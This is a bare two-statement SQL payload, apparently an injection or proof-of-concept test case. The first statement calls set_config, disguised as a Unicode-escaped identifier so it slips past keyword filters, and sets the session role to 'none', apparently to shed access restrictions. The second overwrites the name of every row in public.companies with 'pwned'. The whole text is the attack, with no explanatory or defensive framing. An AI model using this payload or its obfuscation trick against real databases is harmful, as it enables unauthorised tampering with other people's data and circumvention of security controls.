SELECT U&"\0073et_config"('role', 'none', true);
UPDATE public.companies SET name = 'pwned';
